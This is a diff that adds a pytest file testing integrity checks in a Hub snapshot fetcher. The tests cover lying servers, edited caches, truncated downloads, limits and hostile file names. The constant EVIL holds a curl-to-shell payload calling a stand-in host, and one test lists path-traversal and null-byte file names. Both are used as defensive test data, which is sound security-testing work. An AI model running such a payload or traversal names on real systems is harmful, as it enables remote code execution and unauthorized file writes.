@@ -1,0 +1,249 @@
+"""A pin is verified, not believed: lying servers, edited caches, broken downloads."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from envhub_sandbox.errors import (
+    RepositoryUnavailableError,
+    SnapshotError,
+    SnapshotIntegrityError,
+    SnapshotTooLargeError,
+)
+from envhub_sandbox.reference import HubRef
+from envhub_sandbox.snapshot import Snapshot, SnapshotLimits, fetch
+from tests.hub.stub_hub import StubHub, StubRepository
+
+Fetch = Callable[..., Snapshot]
+EVIL = b"import os; os.system('curl evil.example | sh')\n"
+GOOD = b"def make_env(n_envs=1, use_async_envs=False): ...\n"
+
+
+@pytest.fixture
+def repository(stub_hub: StubHub) -> StubRepository:
+    """The repository that lies are planted in."""
+    return stub_hub.add("org/repo", {"env.py": GOOD, "assets/mesh.bin": b"m" * 5000})
+
+
+@pytest.fixture
+def get(stub_hub: StubHub, hub_cache: Path, repository: StubRepository) -> Fetch:
+    """``fetch`` the repository at its commit, with caches of this test only."""
+
+    def run(**rest: Any) -> Snapshot:
+        ref = HubRef("org/repo", repository.commit, repo_type="model")
+        arguments = {"hub_cache_dir": hub_cache, "token": False, "endpoint": stub_hub.endpoint}
+        return fetch(ref, **{**arguments, **rest})
+
+    return run
+
+
+def stored_files(store: Path) -> list[Path]:
+    """All files in the store."""
+    return [path for path in store.rglob("*") if path.is_file()]
+
+
+def requests_for_files(stub_hub: StubHub) -> list[str]:
+    """The requests for contents so far."""
+    return [request for request in stub_hub.requests if "/resolve/" in request]
+
+
+@pytest.mark.parametrize("lie", [EVIL, EVIL.ljust(len(GOOD))[: len(GOOD)]])
+def test_other_content_than_the_pinned_commit_is_refused(
+    repository: StubRepository, get: Fetch, snapshot_store: Path, lie: bytes
+) -> None:
+    """A server that serves other bytes for a pinned commit, of any length, is found out."""
+    repository.served["env.py"] = lie
+    with pytest.raises(SnapshotIntegrityError) as caught:
+        get()
+    assert "env.py" in str(caught.value)
+    assert repository.commit in str(caught.value)
+    assert not stored_files(snapshot_store)
+
+
+def test_other_commit_than_the_pinned_one_is_refused(stub_hub: StubHub, get: Fetch) -> None:
+    """A server that resolves a full commit to another one is not followed."""
+    pinned = get().commit
+    repository = stub_hub.repositories["model", "org/repo"]
+    repository.commit, repository.refs = "b" * 40, {"a" * 40}
+    ref = HubRef("org/repo", "a" * 40, repo_type="model")
+    with pytest.raises(SnapshotIntegrityError, match=r"another commit, b{40}"):
+        fetch(ref, token=False, endpoint=stub_hub.endpoint)
+    assert pinned != repository.commit
+
+
+def test_edited_hub_cache_is_repaired_from_the_hub(
+    stub_hub: StubHub, get: Fetch, hub_cache: Path, snapshot_store: Path
+) -> None:
+    """A blob of the Hub cache that somebody edited is noticed, and fetched again."""
+    first = get()
+    blob = next(path for path in hub_cache.rglob("blobs/*") if path.read_bytes() == GOOD)
+    blob.chmod(0o644)
+    blob.write_bytes(EVIL)
+    _remove_store(snapshot_store)
+    before = len(requests_for_files(stub_hub))
+    assert (get().root / "env.py").read_bytes() == GOOD
+    assert blob.read_bytes() == GOOD
+    again = requests_for_files(stub_hub)[before:]
+    assert {request.rpartition("/")[2] for request in again} == {"env.py"}
+    assert first.commit == get().commit
+
+
+def test_missing_file_in_the_hub_cache_is_fetched(
+    get: Fetch, hub_cache: Path, snapshot_store: Path
+) -> None:
+    """A Hub cache that lost a blob does not make a smaller snapshot."""
+    get()
+    next(path for path in hub_cache.rglob("blobs/*") if path.read_bytes() == GOOD).unlink()
+    _remove_store(snapshot_store)
+    assert (get().root / "env.py").read_bytes() == GOOD
+
+
+def test_edited_hub_cache_does_not_reach_the_store(get: Fetch, hub_cache: Path) -> None:
+    """The store's files are copies: an edit of the Hub cache changes none of them."""
+    snapshot = get()
+    for blob in hub_cache.rglob("blobs/*"):
+        blob.chmod(0o644)
+        blob.write_bytes(EVIL)
+    assert get() == snapshot
+    assert (snapshot.root / "env.py").read_bytes() == GOOD
+
+
+def test_edited_file_of_the_store_is_refused_until_removed(get: Fetch) -> None:
+    """A changed file stops every use, and the command in the error brings the truth back."""
+    snapshot = get()
+    entry = snapshot.root / "env.py"
+    entry.chmod(0o644)
+    entry.write_bytes(EVIL.ljust(len(GOOD))[: len(GOOD)])
+    for _ in range(2):
+        with pytest.raises(SnapshotIntegrityError, match=r"'env\.py' was changed") as caught:
+            get()
+    _run_advice(str(caught.value))
+    assert (get().root / "env.py").read_bytes() == GOOD
+
+
+@pytest.mark.parametrize("fields", [{"size": 3}, {"oid": "a" * 40}, {"size": 10**6}])
+def test_listing_that_does_not_fit_the_content_is_refused(
+    repository: StubRepository, get: Fetch, snapshot_store: Path, fields: dict[str, Any]
+) -> None:
+    """A listing with another size or blob id than the file's is not accepted."""
+    repository.listed["env.py"] = fields
+    with pytest.raises((SnapshotIntegrityError, RepositoryUnavailableError)) as caught:
+        get()
+    assert repository.commit in str(caught.value)
+    assert not stored_files(snapshot_store)
+
+
+def test_truncated_download_is_refused(
+    repository: StubRepository, get: Fetch, snapshot_store: Path
+) -> None:
+    """A connection that ends half way leaves an error and nothing in the store."""
+    repository.truncated.add("assets/mesh.bin")
+    with pytest.raises((RepositoryUnavailableError, SnapshotIntegrityError)) as caught:
+        get()
+    assert repository.commit in str(caught.value)
+    assert not stored_files(snapshot_store)
+    repository.truncated.clear()
+    assert (get().root / "assets/mesh.bin").read_bytes() == b"m" * 5000
+
+
+@pytest.mark.parametrize(
+    ("limits", "name"),
+    [
+        (SnapshotLimits(max_files=1), "max_files=1"),
+        (SnapshotLimits(max_bytes=5001), "max_bytes=5001"),
+        (SnapshotLimits(max_file_bytes=4999), "max_file_bytes=4999"),
+    ],
+)
+def test_repository_over_a_limit_is_refused_before_the_download(
+    stub_hub: StubHub, get: Fetch, limits: SnapshotLimits, name: str
+) -> None:
+    """The listing decides; no content is asked for, and the error names the limit."""
+    with pytest.raises(SnapshotTooLargeError, match=name):
+        get(limits=limits)
+    assert not requests_for_files(stub_hub)
+
+
+def test_limits_hold_for_stored_snapshots_too(get: Fetch) -> None:
+    """A snapshot that came under wider limits does not pass narrower ones."""
+    get()
+    with pytest.raises(SnapshotTooLargeError, match="max_files=1"):
+        get(limits=SnapshotLimits(max_files=1))
+
+
+def test_endless_listing_is_left_at_the_limit(stub_hub: StubHub, get: Fetch) -> None:
+    """A listing in pages is read only until it is too long."""
+    stub_hub.add("org/repo", {"env.py": GOOD, **{f"f{n}": b"" for n in range(50)}})
+    stub_hub.page_size = 2
+    with pytest.raises(SnapshotTooLargeError, match="max_files=5"):
+        get(limits=SnapshotLimits(max_files=5))
+    assert len([request for request in stub_hub.requests if "/tree/" in request]) == 3
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "../evil.py",
+        "a/../../evil.py",
+        "/etc/cron.d/evil",
+        "a//b",
+        "./a",
+        "a\\..\\b",
+        "a\nb",
+        "a\0b",
+    ],
+)
+def test_hostile_name_is_refused_before_the_download(
+    stub_hub: StubHub, repository: StubRepository, get: Fetch, name: str
+) -> None:
+    """A name that could leave the tree or hide never becomes a path here."""
+    repository.files[name] = EVIL
+    with pytest.raises(SnapshotError, match="refused"):
+        get()
+    assert not requests_for_files(stub_hub)
+
+
+@pytest.mark.parametrize(
+    "fields", [{"size": -1}, {"size": "9"}, {"oid": "../x"}, {"path": None}, {"lfs": {"oid": 1}}]
+)
+def test_malformed_listing_is_refused(
+    repository: StubRepository, get: Fetch, fields: dict[str, Any]
+) -> None:
+    """Fields of the wrong type or form are named, not guessed at."""
+    repository.listed["env.py"] = fields
+    with pytest.raises(SnapshotIntegrityError, match="listing has an entry"):
+        get()
+
+
+def test_xet_announcement_without_a_xet_service_falls_back_to_http(
+    stub_hub: StubHub, repository: StubRepository, get: Fetch
+) -> None:
+    """A mirror that passes the Xet headers on but not the service still serves over HTTP."""
+    repository.head_headers = {
+        "X-Xet-Hash": "a" * 64,
+        "Link": f'<{stub_hub.endpoint}/api/models/org/repo/xet-read-token/x>; rel="xet-auth"',
+        "X-Xet-Refresh-Route": "/api/models/org/repo/xet-read-token/x",
+    }
+    stub_hub.fail("xet-read-token", 404)
+    assert (get().root / "env.py").read_bytes() == GOOD
+    from huggingface_hub import constants
+
+    assert constants.HF_HUB_DISABLE_XET is False
+
+
+def _remove_store(store: Path) -> None:
+    from envhub_sandbox.snapshot_store import remove_tree
+
+    remove_tree(store)
+
+
+def _run_advice(message: str) -> None:
+    """Carry out the command that an error ends with."""
+    import subprocess
+
+    command = message.rpartition("fetched again: ")[2]
+    assert command.startswith("chmod -R u+w ")
+    subprocess.run(command, shell=True, check=True)
